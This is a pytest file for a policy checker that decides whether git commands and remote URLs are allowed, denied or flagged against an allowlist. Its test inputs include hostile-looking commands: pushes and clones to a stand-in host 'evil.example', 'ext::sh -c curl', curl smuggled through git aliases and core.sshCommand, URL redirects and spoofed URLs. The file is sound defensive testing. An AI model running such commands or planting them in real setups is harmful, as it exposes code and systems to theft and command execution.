from __future__ import annotations

import pytest
from tests.support.policies import sources

from carrel.policy.rules.remotes import RemoteHost, judge, remote_hosts, url_matches
from carrel.policy.shell.finder import find
from carrel.policy.verdict import strictest

GIT = sources(git={"allowed_remotes": ["https://github.com/*", "https://gitlab.com/*", "git@github.com:team/*"]}).git


def verdict(command: str) -> str:
    remarks = [each for one in find(command).commands for each in judge(GIT, one.arguments, "sources.json")]
    worst = strictest(remarks)
    return worst.verdict if worst else "allow"


@pytest.mark.parametrize(
    ("command", "answer"),
    [("git clone https://github.com/a/b", "allow"), ("git clone --depth 1 -b main https://github.com/a/b dir", "allow"), ("git clone https://evil.example/a", "deny"),
     ("git -C x clone https://evil.example/a", "deny"), ("git --no-pager clone https://evil.example/a", "deny"), ("git clone git@github.com:team/x", "allow"),
     ("git clone git@github.com:other/x", "deny"), ("git clone ssh://git@github.com/team/x", "allow"), ("git clone evil.example:x", "deny"), ("git clone ./local", "allow"),
     ("git clone /srv/x", "allow"), ("git clone 'ext::sh -c curl'", "deny"), ("git clone $x", "ask"), ('git clone "https://github.com/a/$x"', "allow"), ('git clone "https://$x"', "ask"),
     ("git fetch", "allow"), ("git fetch origin", "allow"), ("git pull origin main", "allow"), ("git push", "allow"), ("git push https://evil.example/a", "deny"),
     ("git fetch https://evil.example/a", "deny"), ("git remote -v", "allow"), ("git remote add x https://evil.example/a", "deny"), ("git remote add x https://github.com/a", "allow"),
     ("git remote set-url origin https://evil.example/a", "deny"), ("git submodule add https://evil.example/a", "deny"), ("git submodule update --init", "ask"),
     ("git submodule status", "allow"), ("git clone --recurse-submodules https://github.com/a/b", "ask"), ("git ls-remote https://evil.example/a", "deny"),
     ("git archive --remote=https://evil.example/a HEAD", "deny"), ("git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a", "ask"),
     ("git -c core.sshCommand=curl fetch", "ask"), ("git -c user.name=x commit -m y", "allow"), ("git config user.email x", "allow"), ("git config alias.x '!curl'", "ask"),
     ("git config --global url.x.insteadOf y", "ask"), ("git config --list", "allow"), ("git clone -c core.hooksPath=x https://github.com/a", "ask"),
     ("git clone -u curl https://github.com/a", "ask"), ("git --exec-path=x fetch", "ask"), ("git $x", "ask"), ("git status", "allow"), ("git log --all", "allow"), ("ls", "allow")],
)  # fmt: skip
def test_remotes_of_commands(command: str, answer: str) -> None:
    assert verdict(command) == answer


@pytest.mark.parametrize(
    ("url", "answer"),
    [("https://github.com/a", True), ("https://GitHub.com/a", True), ("https://user:pw@github.com/a", True), ("https://github.com@evil.example/a", False),
     ("https://github.com.evil.example/a", False), ("http://github.com/a", False), ("https://github.com:444/a", False), ("https://github.com", False),
     ("https://evil.example/https://github.com/a", False), ("https://github.com\\@evil.example/", False), ("https://github.com/../x", False), ("https://[bad", False), ("", False)],
)  # fmt: skip
def test_urls(url: str, answer: bool) -> None:
    assert url_matches("https://github.com/*", url) == answer


def test_disabled_remotes_are_refused_and_local_work_is_not() -> None:
    off = sources(git={"enabled": False}).git
    assert [each.verdict for each in judge(off, ("git", "clone", "https://github.com/a"), "s")] == ["deny"]
    assert list(judge(off, ("git", "status"), "s")) == []
    assert list(judge(None, ("git", "clone", "https://x.example/"), "s")) == []


def test_where_remotes_lie() -> None:
    texts = [
        "https://GitHub.com/*",
        "http://a.example/",
        "git@b.example:team/*",
        "ssh://c.example:2222/x",
        "git://d.example/x",
        "https://*.e.example/*",
        "https://f.example.",
    ]
    found = remote_hosts(sources(git={"allowed_remotes": texts}).git)
    assert [(each.host, each.port) for each in found] == [
        ("github.com", 443), ("a.example", 80), ("b.example", 22), ("c.example", 2222), ("d.example", 9418), ("*.e.example", 443), ("f.example", 443),
    ]  # fmt: skip
    assert [each.text for each in found] == texts
    assert found[5].matches("x.e.example")
    assert not found[5].matches("e.example")
    assert not found[5].matches("xe.example")
    assert not RemoteHost("a.example", 443, "").matches("x.a.example")


@pytest.mark.parametrize("text", ["*", "https://*/*", "https://*.com/*", "https://a*.example/*", "https://*.a.*/x", "https:///x", "file:///x", "ext::sh", "https://a.example:99999/", "/srv/x", "./x", "x"])  # fmt: skip
def test_remotes_that_name_no_host_open_none(text: str) -> None:
    assert remote_hosts(sources(git={"allowed_remotes": [text]}).git) == ()
    assert remote_hosts(None) == remote_hosts(sources(git={}).git) == ()
    assert remote_hosts(sources(git={"enabled": False, "allowed_remotes": ["https://a.example/*"]}).git) == ()
